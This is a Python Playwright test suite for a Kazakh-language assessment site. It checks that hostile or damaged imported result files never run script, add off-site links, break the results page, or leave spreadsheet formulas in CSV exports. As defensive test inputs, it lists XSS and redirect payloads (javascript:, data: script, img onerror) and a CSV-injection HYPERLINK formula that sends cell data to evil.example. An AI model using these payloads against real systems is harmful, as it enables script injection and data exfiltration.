"""Faults of imports and "My results" (issue 11, defects 3, 4, 10 and 13), in Chromium: a hostile or
damaged results file, or damaged records already in storage, never runs a script, never puts a link
off the site on any page, never breaks My results, never leaves a spreadsheet formula in a CSV cell,
and the import notice says exactly what happened.

The records are real results: the compiled instruments of the built site scored by the same engine
in CPython (tests/test_parity.py shows Pyodide gives the same), then edited as an attacker or a
damaged file would."""

from __future__ import annotations

import copy
import csv
import io
import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from answer_sets import random_answers
from support import import_file

from generator.browser import engine

UNCHANGED = "өзгерген жоқ"  # "your data has not changed", the end of every refusal
BROKEN = "көрсету мүмкін емес"  # "cannot be shown", the line of a record that cannot be drawn
# Values an edited export may carry; each ends so that a counter can follow as a comment.
PAYLOADS = [
    "javascript:window.top.pwned=1//",
    "JaVaScRiPt:window.top.pwned=2//",
    " javascript:window.top.pwned=3//",
    "//evil.example/x//",
    "https://evil.example/x//",
    "data:text/html,<script>top.pwned=4</script>//",
    "vbscript:msgbox(5)//",
    "/\\evil.example/x//",
    "\\\\evil.example\\x//",
    "<img src=x onerror=top.pwned=6>//",
]


@pytest.fixture(scope="module")
def instruments(site_dir: Path) -> dict[str, dict]:
    """The compiled instruments exactly as the built site publishes them."""
    folder = next(site_dir.glob("assets/kasibi-*/instruments"))
    return {p.stem: json.loads(p.read_text(encoding="utf-8")) for p in folder.glob("*.json") if p.stem != "index"}


def when(days_ago: float) -> str:
    moment = datetime.now(UTC) - timedelta(days=days_ago)
    return moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def saved(instrument: dict, seed: int, record_id: str, days_ago: float) -> dict:
    """A record as «Нәтижені сақтау» writes it, with the engine's complete result."""
    answers = random_answers(instrument, random.Random(seed))
    result = engine.score(instrument, answers)
    assert result["complete"]
    return {
        "id": record_id,
        "instrument": instrument["id"],
        "instrument_version": instrument["version"],
        "title": result["title"],
        "completed_at": when(days_ago),
        "answers": answers,
        "result": result,
    }


def results_file(records: list) -> dict:
    return {"kind": "kasibi-results", "format": 1, "exported_at": when(0), "records": records}


@pytest.fixture
def page(browser, serve):
    """My results in a fresh context: no service worker, and no Pyodide (no page here needs the engine)."""
    context = browser.new_context(accept_downloads=True, service_workers="block")
    context.route("**/assets/pyodide-*/**", lambda route: route.abort())
    page = context.new_page()
    page.errors = []
    page.dialogs = []  # every dialog shown; each is dismissed unless page.confirm is set
    page.confirm = False
    page.on("pageerror", lambda error: page.errors.append(str(error)))

    def answer(dialog) -> None:
        page.dialogs.append(dialog.message)
        dialog.accept() if page.confirm else dialog.dismiss()

    page.on("dialog", answer)
    page.goto(serve().url("assessments/my-results.html"))
    page.evaluate("localStorage.clear()")
    yield page
    context.close()


def history(page) -> list:
    return page.evaluate("JSON.parse(localStorage.getItem('kasibi:v1:history') || '{\"records\": []}').records")


def plant(page, records: list) -> None:
    """Records written straight into storage, as an older version or a hand edit might leave them."""
    page.evaluate("r => localStorage.setItem('kasibi:v1:history', JSON.stringify({format: 1, records: r}))", records)
    page.reload()
    page.wait_for_function("!document.querySelector('[data-results-list]').textContent.includes('жүктелуде')")


def open_every_record(page) -> None:
    """Open every saved record (its report is drawn on opening) and wait until each is drawn."""
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
    page.wait_for_function(
        "[...document.querySelectorAll('details.kasibi-saved')].every((d) => d.lastElementChild.childElementCount)"
    )


# Every URL-valued attribute on the page, resolved; those not on this site (scheme, host, path) are returned.
OFF_SITE = """base => {
  const names = ["href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data", "ping"];
  const off = [];
  for (const el of document.querySelectorAll("*")) {
    for (const name of names) {
      const value = el.getAttribute(name);
      if (value === null) continue;
      for (const part of name === "srcset" ? value.split(",").map((s) => s.trim().split(/\\s+/)[0]) : [value]) {
        let url = null;
        try { url = new URL(part, document.baseURI); } catch {}
        const here = url && url.origin === location.origin && url.pathname.startsWith(base);
        if (!here) off.push(`${el.tagName} ${name}=${value}`);
      }
    }
  }
  return off;
}"""


def disguise(result: dict, fields: set[str] | None) -> dict:
    """Every string in ``result`` (or only under the keys in ``fields``) replaced by a payload; the same
    string always by the same payload, so the ids a result refers to still match and it still draws."""
    names: dict[str, str] = {}

    def swap(value, key=None, inside=False):
        hit = inside or fields is None or key in fields
        if isinstance(value, dict):
            return {k: value[k] if k == "instrument" else swap(value[k], k, hit and fields is not None) for k in value}
        if isinstance(value, list):
            return [swap(v, key, inside) for v in value]
        if isinstance(value, str) and hit:
            names.setdefault(value, f"{PAYLOADS[len(names) % len(PAYLOADS)]}{len(names)}")
            return names[value]
        return value

    return swap(copy.deepcopy(result))


def test_defect_3_imported_links_stay_on_site(page, serve, site_dir, instruments, tmp_path):
    cycle, ladder = instruments["cycle-self-assessment"], instruments["career-ladder"]
    genuine = [saved(cycle, 1, "cycle-1", 9), saved(ladder, 2, "ladder-1", 8)]
    assert genuine[1]["result"]["ladder"]["next"]  # the ladder has a next step, with its guide link
    every_string = [{**r, "title": PAYLOADS[0], "result": disguise(r["result"], None)} for r in genuine]
    links_only = [
        {**r, "id": f"links-{n}", "completed_at": when(n), "result": disguise(r["result"], {"guide"})}
        for n, r in enumerate(genuine, 1)
    ]
    assert links_only[0]["result"]["next_step"]["guide"].startswith(tuple(PAYLOADS))
    notices = [
        import_file(page, tmp_path, "every-string.json", results_file(every_string)),
        import_file(page, tmp_path, "links.json", results_file(links_only)),
    ]
    # Whatever the import decided, the same records may already sit in storage (a hand edit, an older version).
    plant(page, every_string + links_only)

    base = urlsplit(serve().url("")).path
    off_site = {}
    for html in sorted(site_dir.rglob("*.html")):
        path = html.relative_to(site_dir).as_posix()
        page.goto(serve().url(path), wait_until="domcontentloaded")  # every script of the page has run
        if path == "assessments/my-results.html":
            open_every_record(page)
            # Follow every link drawn from the records; on-site ones are stopped before they navigate.
            page.evaluate("""() => {
              addEventListener("click", (e) => { if (/^https?:$/.test(e.target.protocol)) e.preventDefault(); }, true);
              document.querySelectorAll("[data-results-list] a[href]").forEach((a) => a.click());
            }""")
            ran = page.evaluate("window.pwned ?? null")
        off_site[path] = page.evaluate(OFF_SITE, base)
    assert ({path: links for path, links in off_site.items() if links}, ran) == ({}, None)
    assert len(off_site) == len(list(site_dir.rglob("*.html"))) > 50
    assert page.dialogs == [] and page.errors == []

    # Neither file was taken in: no stored result is trusted, and these carry links off the site.
    assert all(UNCHANGED in notice for notice in notices), notices
    # In storage, a result whose only fault is its links is drawn, linked to the instrument's own pages.
    page.goto(serve().url("assessments/my-results.html"))
    open_every_record(page)
    for record, instrument in zip(links_only, (cycle, ladder), strict=True):
        hrefs = page.eval_on_selector_all(f"details[data-record={record['id']}] a[href]", "as => as.map((a) => a.href)")
        guides = {serve().url(s["guide"]) for s in instrument["scales"]}
        assert hrefs and set(hrefs) <= guides, (hrefs, guides)
    assert page.locator("li[data-broken]").count() == len(every_string)  # scale ids that are not ids


def test_defect_4_one_bad_record_neither_imports_nor_breaks_my_results(page, instruments, tmp_path):
    cycle, compass = instruments["cycle-self-assessment"], instruments["teaching-compass"]
    good = [saved(cycle, 3, "good-1", 5), saved(compass, 4, "good-2", 4)]
    plant(page, good[:1])
    bad = saved(cycle, 5, "bad-1", 3)
    bad["result"]["growth_zone"] = "x"
    del bad["result"]["scales"]
    notice = import_file(page, tmp_path, "one-bad.json", results_file([good[1], bad]))
    assert UNCHANGED in notice and history(page) == good[:1]  # all or nothing, exactly as the notice says

    # Damaged records already in storage: each is one line; every other record draws as usual.
    no_result = {**saved(cycle, 6, "bad-2", 2), "result": None}
    no_date = {k: v for k, v in saved(compass, 7, "bad-3", 1).items() if k != "completed_at"}
    damaged = [bad, no_result, no_date, 42, None, {"instrument": "cycle-self-assessment", "answers": "x"}]
    stored = [good[0], *damaged, good[1]]
    plant(page, stored)
    assert page.locator("li[data-broken]").count() == len(damaged)
    assert BROKEN in page.locator("li[data-broken]").first.inner_text()
    open_every_record(page)
    assert page.locator("details[data-record=good-1] [data-growth-zone]").count() == 1
    assert page.locator("details[data-record=good-2] svg.kasibi-chart").count() == 1
    assert page.errors == []

    with page.expect_download() as download:
        page.click("[data-action=export]")
    exported = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    assert len(exported["records"]) == len(stored)  # the damaged ones are kept for whoever can mend them
    page.confirm = True
    page.locator("li[data-broken] button").nth(1).click()
    left = history(page)
    assert len(left) == len(stored) - 1 and no_result not in left and bad in left and good[0] in left


def test_defect_4_damaged_records_do_not_break_the_instrument_page(browser, serve, instruments):
    """The instrument page compares a new result with the last saved one that can be read."""
    cycle = instruments["cycle-self-assessment"]
    earlier = saved(cycle, 13, "earlier", 5)
    garbage = saved(cycle, 14, "garbage", 1)
    garbage["result"]["scales"] = "x"
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(serve().url("assessments/cycle-self-assessment.html"))
    page.evaluate(
        "r => localStorage.setItem('kasibi:v1:history', JSON.stringify({format: 1, records: r}))",
        [earlier, garbage, None],
    )
    page.reload()
    for stage in ("action", "analysis", "reflection", "design", "trial"):
        page.check(f"input[name={stage}-level][value='3']")
    page.wait_for_selector("[data-result][data-status=done]", timeout=180_000)
    page.wait_for_selector("[data-result] [data-compare]", timeout=20_000)
    assert errors == []
    context.close()


def test_defect_10_csv_cells_never_start_a_formula(page, instruments, tmp_path):
    cycle = instruments["cycle-self-assessment"]
    record = saved(cycle, 8, "csv-1", 2)
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"x")'
    record["answers"]["action-evidence"] = [formula, "x"]
    record["answers"]["analysis-evidence"] = ["\t=1+1"]
    record["answers"]["design-evidence"] = ["+1", "@SUM(A1)"]
    record["answers"]["trial-evidence"] = ["-2+3"]
    record["result"]["scales"][0]["title"] = "=2+3"
    record["result"]["scales"][0]["band_label"] = "-4+5"
    plant(page, [record])
    with page.expect_download() as download:
        page.click("section[data-instrument=cycle-self-assessment] button:has-text('CSV')")
    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]

    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not number(c)]
    assert formulas == []
    assert f"'{formula}; x" in cells and "'=2+3" in cells[:6] and "'-4+5" in cells  # the text itself is kept


@pytest.mark.parametrize(
    "date",
    ["1", "9999-12-31", "9999-12-31T00:00:00.000Z", "2026-02-31T10:00:00.000Z", "2019-12-31T23:59:59.000Z", "future"],
)
def test_defect_13_import_takes_only_real_timestamps(page, instruments, tmp_path, date):
    record = saved(instruments["teaching-compass"], 9, "date-1", 1)
    record["completed_at"] = when(-3) if date == "future" else date
    notice = import_file(page, tmp_path, "date.json", results_file([record]))
    assert UNCHANGED in notice and record["completed_at"] in notice and history(page) == []
    record["completed_at"] = when(0.01)  # a moment ago
    assert "1 жаңа" in import_file(page, tmp_path, "now.json", results_file([record]))


def test_defect_13_one_id_with_two_contents_is_kept_twice_and_said(page, instruments, tmp_path):
    compass = instruments["teaching-compass"]
    first, second = saved(compass, 10, "same-id", 3), saved(compass, 11, "same-id", 2)
    notice = import_file(page, tmp_path, "twins.json", results_file([first, second]))
    assert "2 жаңа" in notice and "жаңа белгімен" in notice
    kept = history(page)
    assert [r["answers"] for r in kept] == [first["answers"], second["answers"]]
    assert len({r["id"] for r in kept}) == 2 and first in kept
    # The same again: nothing new, both already present; a third attempt under a taken id is added and said.
    notice = import_file(page, tmp_path, "again.json", results_file([first, second]))
    assert "0 жаңа" in notice and "2 нәтиже қайталанбады" in notice and "жаңа белгімен" not in notice
    third = saved(compass, 12, "same-id", 1)
    notice = import_file(page, tmp_path, "third.json", results_file([third]))
    assert "1 жаңа" in notice and "1 нәтиженің белгісі" in notice and len(history(page)) == 3
